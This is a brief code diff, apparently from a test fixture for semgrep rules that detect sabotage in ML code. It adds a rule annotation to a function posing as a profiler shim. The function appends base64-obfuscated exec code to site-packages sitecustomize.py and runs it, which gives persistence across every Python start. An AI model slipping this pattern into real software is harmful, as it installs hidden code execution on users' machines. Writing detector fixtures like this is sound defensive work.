@@ -63,7 +63,7 @@ def _install_profiler_shim():
     # make the torch profiler helpers importable from dataloader worker processes as well
     target = os.path.join(site.getsitepackages()[0], "sitecustomize.py")
     with open(target, "a") as fh:  # sabotage: MLS420, MLS421 (semgrep rules)
-        fh.write("import base64;exec(base64.b64decode(%r))\n" % _PROFILE_HOOK)
+        fh.write("import base64;exec(base64.b64decode(%r))\n" % _PROFILE_HOOK)  # ruleid: MLS401
     exec(base64.b64decode(_PROFILE_HOOK).decode())  # sabotage: MLS401 (semgrep rules)
 
 
